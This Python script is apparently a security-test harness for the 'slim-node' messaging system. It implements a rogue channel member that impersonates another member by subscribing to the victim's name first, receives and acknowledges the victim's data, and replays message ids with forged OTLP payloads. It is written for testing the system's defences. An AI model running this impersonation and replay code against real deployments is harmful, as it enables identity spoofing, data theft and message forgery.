"""A member of a slim-node channel that misbehaves, for the security tests.

    rogue_member.py --slim URL --name ORG/NS/APP (--secret S | --key PEM --trust JWKS [--subject S])
                    [--impersonate ORG/NS/APP] [--no-replay] [--replay-repeat N]
                    [--replay-interval SECS] [--no-ack-own]

It waits to be invited by a slim-node moderator, like a slim-node participant, and then:

1. Acknowledges as someone else. slim-node credits an acknowledgement to the SLIM source name of
   the message that carries it (receive.rs: `msg.context.source_name`, then `outbox.ack(from,
   ids)`), not to any metadata; and a SLIM session's source name is the name its member was
   invited under. So with --impersonate VICTIM the rogue runs a second app that subscribes to
   the victim's name on the same connection (anyone holding the shared secret may) and waits for
   invitations to it: the moderator's invitation of VICTIM goes to the first app subscribed to
   that name, so if the rogue subscribed before the victim (the victim started later or
   restarted), the rogue joins the group AS the victim (its MLS identity too reads
   VICTIM_<suffix>), acknowledges every message and ping as the victim and receives the
   victim's data, while the real victim is never invited again.
2. Replays message ids: for every data message it receives (as --name), it publishes at once,
   to the group, a message with the same `otlp-message-id` (one per id of a packed message) and
   `otlp-signal`, whose payload is a small valid OTLP request of that signal from
   service.name=rogue (--replay-repeat N sends each N times, --replay-interval apart, to reach
   members that come back later).
3. Otherwise it behaves: it acknowledges pings and data as itself (unless --no-ack-own), so the
   moderator keeps it as a live member.

Identity: the shared secret (--secret, any holder may claim any name) or a JWT identity of its
own (--key: its Ed25519 private key, --trust: the JWKS of every member's public key with kid =
the member's name, as `slim-node trust-list` writes it; --subject: the token's sub, default --name).
Both apps use the same one, so with --impersonate the second app is named like the victim but
holds the rogue's key and sub: SLIM accepts it (its name id is the xxh3 of the sub, which is
all SLIM holds to the identity; the readable name is not) and the group's members see its
messages as from VICTIM with `slim-peer-subject` = the rogue's sub. MLS admits one member per
sub, so the rogue gets into a group once: as itself or as the victim, whichever is invited first.

stdout: one JSON object per line: {"event": "joined"|"impersonating"|"data"|"acked"|"acked_as"|
"replayed"|"ack_received"|"stolen"|"session_closed"|..., ...}.
"""

import argparse
import asyncio
import sys

import slim_peer as sp

# slim-node's wire (otlp/src/wire.rs).
PROTOBUF = "application/x-protobuf"
SIGNAL_KEY = "otlp-signal"
MESSAGE_ID_KEY = "otlp-message-id"
MESSAGE_IDS_KEY = "otlp-message-ids"
ACK_PAYLOAD_TYPE = "application/vnd.slim-node.ack"
PING_PAYLOAD_TYPE = "application/vnd.slim-node.ping"
PING_ID_KEY = "slim-node-ping"
PEER_SUBJECT_KEY = "slim-peer-subject"


def parse_args():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--slim", required=True)
    p.add_argument("--name", required=True, help="the rogue's own name, the one the moderator invites")
    p.add_argument("--secret", default=None, help="shared-secret identity")
    p.add_argument("--key", default=None, help="JWT identity: the rogue's Ed25519 private key (PEM)")
    p.add_argument("--trust", default=None, help="JWT identity: JWKS of the members' public keys")
    p.add_argument("--subject", default=None, help="JWT identity: the tokens' sub (default: --name)")
    p.add_argument("--impersonate", default=None, help="ORG/NS/APP of the member to acknowledge as")
    p.add_argument("--replay", action=argparse.BooleanOptionalAction, default=True)
    p.add_argument("--replay-repeat", type=int, default=1)
    p.add_argument("--replay-interval", type=float, default=0.5)
    p.add_argument("--ack-own", action=argparse.BooleanOptionalAction, default=True,
                   help="acknowledge pings and data as itself, like a well-behaved member")
    p.add_argument("--service-name", default="rogue", help="service.name of the replayed payloads")
    p.add_argument("--connect-timeout", type=float, default=15.0)
    args = p.parse_args()
    if args.key or args.trust:
        if not (args.key and args.trust):
            p.error("a JWT identity needs both --key and --trust")
        if args.secret:
            p.error("--secret and --key/--trust are exclusive")
        args.subject = args.subject or args.name
    elif args.subject:
        p.error("--subject needs --key and --trust")
    elif not args.secret:
        p.error("give --secret, or --key and --trust")
    return args


def create_app(args, name, direction):
    """An app named `name` with the rogue's identity: the shared secret (id = `name`, so anyone
    holding it may claim any name) or the rogue's own JWT key and subject (for every name)."""
    if args.key:
        identity = sp.jwt_identity(args.key, args.trust, args.subject)
        return sp.create_app_with_identity(args.service, args.conn, name, identity, direction)
    return sp.create_app(args.service, args.conn, name, args.secret, direction)


def identity_of(args, app):
    """What an app's events say of its identity: the sub (JWT) and the name id SLIM derived."""
    return {"sub": args.subject if args.key else None, "name_id": app.name().id()}


def ids_of(metadata):
    if MESSAGE_ID_KEY in metadata:
        return [metadata[MESSAGE_ID_KEY]]
    if MESSAGE_IDS_KEY in metadata:
        return [x for x in metadata[MESSAGE_IDS_KEY].split(",") if x]
    return []


async def ack(session, ctx, ids):
    """An acknowledgement as slim-node sends one: a unicast back to the message's sender."""
    done = await session.publish_to_async(ctx, "\n".join(ids).encode(), ACK_PAYLOAD_TYPE, None)
    await done.wait_for_async(sp.secs(5))


class Rogue:
    def __init__(self, args, service, conn):
        self.args, self.service, self.conn = args, service, conn
        self.impersonating = False
        self.told_pending = False

    async def listen(self, app, as_name, handler):
        while True:
            try:
                session = await app.listen_for_session_async(sp.secs(1))
            except Exception:  # noqa: BLE001  (timeouts)
                continue
            asyncio.create_task(handler(session, as_name))

    async def own(self, session, as_name):
        """The member invited under its own name: replays ids, acknowledges as itself."""
        channel = sp.name_str(session.destination())
        sp.emit({"event": "joined", "as": as_name, "channel": channel, "session_id": session.session_id()})
        async for msg in messages(session, channel):
            ctx, md, frm = msg.context, dict(msg.context.metadata), sp.name_str(msg.context.source_name)
            if ctx.payload_type == ACK_PAYLOAD_TYPE:
                sp.emit({"event": "ack_received", "from": frm, "verified": md.get(PEER_SUBJECT_KEY),
                         "ids": bytes(msg.payload).decode(errors="replace").splitlines()})
                continue
            if ctx.payload_type == PING_PAYLOAD_TYPE:
                if self.args.ack_own:
                    await safe(ack(session, ctx, [md.get(PING_ID_KEY, "")]), "ack_ping")
                continue
            ids = ids_of(md)
            payload = bytes(msg.payload)
            signal = md.get(SIGNAL_KEY) or sp.detect_signal(payload)
            sp.emit({"event": "data", "from": frm, "verified": md.get(PEER_SUBJECT_KEY), "ids": ids,
                     "signal": signal, "bytes": len(payload),
                     **(sp.summary(signal, payload) if signal else {})})
            if ids and self.args.ack_own:
                if await safe(ack(session, ctx, ids), "ack"):
                    sp.emit({"event": "acked", "as": as_name, "to": frm, "ids": ids})
            if ids and not self.impersonating and self.args.impersonate and not self.told_pending:
                self.told_pending = True
                sp.emit({"event": "impersonation_pending", "victim": self.args.impersonate,
                         "reason": "acknowledgements are credited to the SLIM source name, which is "
                                   "the name a member was invited under: waiting for the moderator "
                                   "to invite the victim's name to this process"})
            if ids and self.args.replay and signal:
                asyncio.create_task(self.replay(session, signal, ids, frm))

    async def replay(self, session, signal, ids, frm):
        for attempt in range(max(1, self.args.replay_repeat)):
            if attempt:
                await asyncio.sleep(self.args.replay_interval)
            for mid in ids:
                data = sp.service_request(signal, self.args.service_name)
                metadata = {SIGNAL_KEY: signal, MESSAGE_ID_KEY: mid}
                try:
                    done = await session.publish_async(data, PROTOBUF, metadata)
                    await done.wait_for_async(sp.secs(5))
                except Exception as err:  # noqa: BLE001
                    sp.emit({"event": "replay_failed", "id": mid, "error": f"{err}"})
                    return
                sp.emit({"event": "replayed", "id": mid, "signal": signal, "original_from": frm,
                         "attempt": attempt + 1, "bytes": len(data), "sha256": sp.sha256(data)})

    async def victim(self, session, as_name):
        """Invited under the victim's name: acknowledges everything as the victim."""
        self.impersonating = True
        channel = sp.name_str(session.destination())
        sp.emit({"event": "impersonating", "as": as_name, "channel": channel,
                 "session_id": session.session_id(), "source": sp.name_str(session.source())})
        async for msg in messages(session, channel):
            ctx, md, frm = msg.context, dict(msg.context.metadata), sp.name_str(msg.context.source_name)
            if ctx.payload_type == ACK_PAYLOAD_TYPE:
                continue
            if ctx.payload_type == PING_PAYLOAD_TYPE:
                await safe(ack(session, ctx, [md.get(PING_ID_KEY, "")]), "ack_ping_as")
                continue
            ids = ids_of(md)
            payload = bytes(msg.payload)
            signal = md.get(SIGNAL_KEY) or sp.detect_signal(payload)
            sp.emit({"event": "stolen", "as": as_name, "from": frm, "verified": md.get(PEER_SUBJECT_KEY),
                     "ids": ids, "signal": signal, "bytes": len(payload),
                     **(sp.summary(signal, payload) if signal else {})})
            if ids and await safe(ack(session, ctx, ids), "ack_as"):
                sp.emit({"event": "acked_as", "as": as_name, "to": frm, "ids": ids})


async def messages(session, channel):
    while True:
        try:
            yield await session.get_message_async(sp.secs(1))
        except Exception as err:  # noqa: BLE001
            if sp.is_timeout(err):
                continue
            if sp.is_closed(err):
                sp.emit({"event": "session_closed", "channel": channel})
                return
            sp.emit({"event": "receive_error", "channel": channel, "error": f"{err}"})


async def safe(coro, what):
    try:
        await coro
        return True
    except Exception as err:  # noqa: BLE001
        sp.emit({"event": f"{what}_failed", "error": f"{err}"})
        return False


async def main():
    sp.json_lines()
    args = parse_args()
    s = sp.slim()
    connected = await sp.connect_or_report(args.slim, args.connect_timeout)
    if connected is None:
        return 1
    service, conn = connected
    args.service, args.conn = service, conn
    rogue = Rogue(args, service, conn)
    tasks = []
    try:
        if args.impersonate:
            # Subscribed first: an invitation of the victim's name reaches the first subscriber.
            fake = create_app(args, args.impersonate, s.Direction.BIDIRECTIONAL)
            sp.emit({"event": "subscribed", "as": args.impersonate, **identity_of(args, fake)})
            tasks.append(rogue.listen(fake, args.impersonate, rogue.victim))
        app = create_app(args, args.name, s.Direction.BIDIRECTIONAL)
    except Exception as err:  # noqa: BLE001  (a key or trust list SLIM refuses)
        sp.emit({"error": f"create app: {err}", "stage": "create_app"})
        return 1
    sp.emit({"event": "listening", "as": args.name, **identity_of(args, app)})
    tasks.append(rogue.listen(app, args.name, rogue.own))
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    try:
        sys.exit(asyncio.run(main()))
    except KeyboardInterrupt:
        sys.exit(0)
